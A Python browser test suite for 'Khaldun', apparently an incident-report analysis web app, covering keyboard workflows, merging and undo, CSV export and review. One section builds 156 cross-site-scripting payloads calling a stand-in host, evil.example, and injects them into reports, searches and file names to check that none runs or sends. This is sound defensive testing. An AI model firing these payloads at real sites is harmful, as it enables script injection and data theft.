"""A person at the desk in a real browser; skipped by name where there is none."""

import csv
import io
import shutil
from collections.abc import Sequence
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from desk.cases import put
from desk.hostile import PAYLOADS, hostile
from desk.served import sent, served
from khaldun.case import Case


def _table(page: Any) -> list[list[str]]:
    rows = page.locator("table.incidents tbody tr").all()
    return [
        [" ".join(cell.split()) for cell in row.locator("th, td:not(.pick)").all_inner_texts()]
        for row in rows
    ]


def test_a_person_filters_compares_joins_by_keyboard_undoes_and_exports(
    browser: tuple[Any, list[str]], examples: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "case"
    shutil.copytree(examples, folder)
    opened, asked = browser
    with served(folder) as address:
        page = opened.new_page(viewport={"width": 1280, "height": 860})
        page.goto(address)
        assert page.url.endswith("/incidents")
        before = len(_table(page))
        page.keyboard.press("/")
        page.keyboard.type("khan sheikhoun")
        page.keyboard.press("Enter")
        page.wait_for_url("**/incidents?text=khan+sheikhoun*")
        shown = _table(page)
        assert 1 < len(shown) < before
        _find_the_csv_equal(page, shown)
        _join_by_keyboard(page)
        page.goto(address)
        assert len(_table(page)) == before - 1
        page.go_back()
        _undo(page)
        page.goto(address)
        assert len(_table(page)) == before
        page.close()
    with Case.open(folder) as case:
        assert not list(case.verify())
        verdicts = [judgement.verdict for judgement in case.ledger.judgements()]
    assert verdicts[: len(verdicts) // 2] == ["yes"] * (len(verdicts) // 2)
    assert verdicts[len(verdicts) // 2 :] == ["unsure"] * (len(verdicts) // 2)
    assert sent(asked) == []


def _join_by_keyboard(page: Any) -> None:
    # Two rows are ticked and compared, without a mouse.
    for key in ("j", "x", "j", "x", "c"):
        page.keyboard.press(key)
    page.wait_for_url("**/compare?*")
    page.get_by_label("Reason").focus()
    page.keyboard.type("one attack, told twice")
    page.keyboard.press("Tab")
    page.keyboard.type("A. Analyst")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    page.wait_for_url("**/incident/*done=*")
    assert "one attack, told twice" in page.get_by_role("status").inner_text()


def _undo(page: Any) -> None:
    page.locator(".notice summary").focus()
    page.keyboard.press("Enter")
    page.locator(".notice").get_by_label("Reason").fill("they were two")
    page.locator(".notice").get_by_role("button", name="Undo").press("Enter")
    page.wait_for_url("**/incident/*done=*")


def _find_the_csv_equal(page: Any, shown: list[list[str]]) -> None:
    page.locator(".menu summary").press("Enter")
    with page.expect_download() as started:
        page.get_by_role("link", name="This table as CSV").press("Enter")
    text = Path(started.value.path()).read_bytes().decode()
    _, *rows = csv.reader(io.StringIO(text, newline=""))
    assert [[row[0][:10], *row[1:]] for row in rows] == shown


def test_j_k_and_enter_walk_the_table(browser: tuple[Any, list[str]], examples: Path) -> None:
    with served(examples) as address:
        page = browser[0].new_page()
        page.goto(address)
        ids = page.locator("tbody th.id a").all_inner_texts()
        for key, row in (("j", 0), ("j", 1), ("j", 2), ("k", 1), ("k", 0), ("k", 0)):
            page.keyboard.press(key)
            assert page.locator(":focus").inner_text() == ids[row]
        page.keyboard.press("Enter")
        page.wait_for_url("**/incident/*")
        assert ids[0] in page.title()
        # The first stop of the Tab key leads past the head of the page.
        page.keyboard.press("Tab")
        assert page.locator(":focus").inner_text() == "Skip to the content"
        page.close()


def test_a_claim_lights_its_words_and_words_light_their_claim(
    browser: tuple[Any, list[str]], examples: Path
) -> None:
    with served(examples) as address, Case.open(examples) as case:
        account = next(one for one in case.ledger.accounts() if one.figures)
        claim = account.figures[0]
        page = browser[0].new_page()
        page.goto(address)
        page.goto(f"{address.partition('/?')[0]}/report/{account.report}")
        words = page.locator(f"a.lit[data-claims~='{claim.id}']").first
        told = page.locator(f"#claim-{claim.id}")
        for one, other in ((told, words), (words, told)):
            assert "on" not in str(other.get_attribute("class")).split()
            one.hover()
            assert "on" in str(other.get_attribute("class")).split()
            page.mouse.move(1, 1)
        told.locator("a").first.focus()
        assert "on" in str(words.get_attribute("class")).split()
        page.close()


#: What closes the place that a word may stand in, and what would then run or load.
_WAYS_OUT = (
    "",
    '">',
    "'>",
    "-->",
    "</script>",
    "</title>",
    "</bdi></svg>",
    "]]>",
    '\\"',
    "`",
    "\0",
    "{{",
)
_LOADS = (
    "<script src=//evil.example/x></script>",
    "<img src=http://evil.example/x onerror=document.title=1>",
    "<svg/onload=document.title=1>",
    "<iframe src=http://evil.example></iframe>",
    "<link rel=preload as=image href=http://evil.example/x>",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<video poster=http://evil.example/x autoplay onplay=document.title=1>",
    "<details open ontoggle=document.title=1>",
    "<input autofocus onfocus=document.title=1>",
    "<object data=http://evil.example/x>",
    "<form action=http://evil.example id=x><button form=x autofocus>",
    "<a href=http://evil.example ping=http://evil.example>",
)


def test_nothing_that_a_report_says_runs_or_sends(
    browser: tuple[Any, list[str]], tmp_path: Path
) -> None:
    opened, asked = browser
    assert _wrong(opened, tmp_path / "case", PAYLOADS) == []
    assert sent(asked) == []


@pytest.mark.soak
def test_nothing_of_156_payloads_runs_or_sends(
    browser: tuple[Any, list[str]], tmp_path: Path
) -> None:
    opened, asked = browser
    payloads = [out + load for out in _WAYS_OUT for load in _LOADS]
    assert len(set(payloads)) == 156
    assert _wrong(opened, tmp_path / "case", payloads) == []
    assert sent(asked) == []


def _wrong(opened: Any, folder: Path, payloads: Sequence[str]) -> list[str]:
    """What a browser asked, complained of or was shown that no page of ours meant."""
    told = [hostile(payload, number) for number, payload in enumerate(payloads)]
    wrong: list[str] = []
    with served(put(folder, told)) as address:
        home = address.partition("/?")[0]
        page = opened.new_page()
        page.on("dialog", lambda dialog: wrong.append(dialog.message))
        page.on("request", lambda one: wrong.append(one.url) if home not in one.url else None)
        page.on("console", lambda one: wrong.append(one.text) if _complains(one) else None)
        page.goto(address)
        paths = page.locator("tbody th.id a").evaluate_all("all => all.map(a => a.href)")
        paths += [f"{home}/report/{report.id}" for report, _ in told]
        assert len(paths) > len(payloads)
        paths += [f"{home}/map", f"{home}/intake"]
        for path in paths:
            page.goto(path)
            assert page.title().endswith("· Khaldun")
            assert page.locator("[onload], [onerror], iframe, img, style, object").count() == 0
        for payload in payloads:
            page.goto(f"{home}/incidents")
            page.get_by_role("searchbox").fill(payload)
            page.get_by_role("searchbox").press("Enter")
            page.wait_for_url("**/incidents?text=*")
            assert page.title() == "Incidents · Khaldun"
            page.goto(f"{home}/incidents?since={quote(payload, safe='')}")
            assert page.title() == "Not possible · Khaldun"
        _hand_over(page, payloads)
        page.close()
    return wrong


def _complains(one: Any) -> bool:
    """Whether a browser's message is an error, and not the status of a page of ours."""
    return one.type == "error" and "status of 400 (Bad Request)" not in one.text


def _hand_over(page: Any, payloads: Sequence[str]) -> None:
    """Files of these names, which the page then lists, as there is nothing to read in them."""
    page.goto(page.url.partition("/incidents")[0] + "/intake")
    names = [f"{number} {payload}" for number, payload in enumerate(payloads)]
    kind = {"mimeType": "application/octet-stream", "buffer": b"\x89 no report"}
    page.get_by_label("Files", exact=True).set_input_files([{"name": n} | kind for n in names])
    page.get_by_role("button", name="Read them").click()
    page.get_by_role("link", name="See the incidents").wait_for(timeout=600_000)
    assert page.locator("#lots tbody tr").count() == len(payloads)
    assert page.title() == "Intake · Khaldun"


def test_a_person_corrects_a_toll_undoes_it_and_works_the_queue_by_keyboard(
    browser: tuple[Any, list[str]], examples: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "case"
    shutil.copytree(examples, folder)
    opened, asked = browser
    with served(folder) as address:
        page = opened.new_page(viewport={"width": 1280, "height": 860})
        page.goto(address)
        home = address.partition("/?")[0]
        _add_a_count(page, home, folder)
        page.locator(".notice summary").press("Enter")
        page.locator(".notice").get_by_label("Reason").fill("it was not so")
        page.locator(".notice").get_by_role("button", name="Undo").press("Enter")
        page.wait_for_url("**/incident/*done=*")
        page.goto(f"{home}/review")
        page.get_by_label("Your name").fill("R. One")
        with page.expect_navigation():
            page.get_by_label("Your name").press("Enter")
        asked_about = []
        for key in ("y", "n", "s"):
            asked_about.append(page.locator("article h2 a").get_attribute("href"))
            with page.expect_navigation():
                page.keyboard.press(key)
        assert len(set(asked_about)) == 3
        assert page.locator("dl.counts div").nth(1).inner_text().split() == [
            *"yours, this session 2".split()
        ]
        page.close()
    with Case.open(folder) as case:
        assert not list(case.verify())
        made = list(case.ledger.judgements())
    assert [(one.relation, one.verdict) for one in made] == [
        ("field", "yes"),
        ("field", "unsure"),
        ("review", "yes"),
        ("review", "no"),
    ]
    assert sent(asked) == []


def _add_a_count(page: Any, home: str, folder: Path) -> None:
    """Select words of a report that hold a claim, and say that they count the wounded, too."""
    with Case.open(folder) as case:
        account = next(one for one in case.ledger.accounts() if one.figures)
    claim = account.figures[0]
    page.goto(f"{home}/report/{account.report}")
    page.locator(f"a.lit[data-claims~='{claim.id}']").first.evaluate(
        "words => getSelection().selectAllChildren(words)"
    )
    page.keyboard.press("a")
    words = page.get_by_label("The report's words").input_value()
    assert words
    assert words in claim.span.text
    form = page.locator("form.adds")
    form.locator("select[name=account]").select_option(account.id)
    form.locator("select[name=kind]").select_option("wounded")
    form.get_by_label("Number").fill("at least 7")
    form.get_by_label("Reason").fill("the reader missed it")
    form.get_by_label("Your name").fill("A. Analyst")
    form.get_by_role("button", name="Add").press("Enter")
    page.wait_for_url("**/incident/*done=*")
    assert "the reader missed it" in page.get_by_role("status").inner_text()
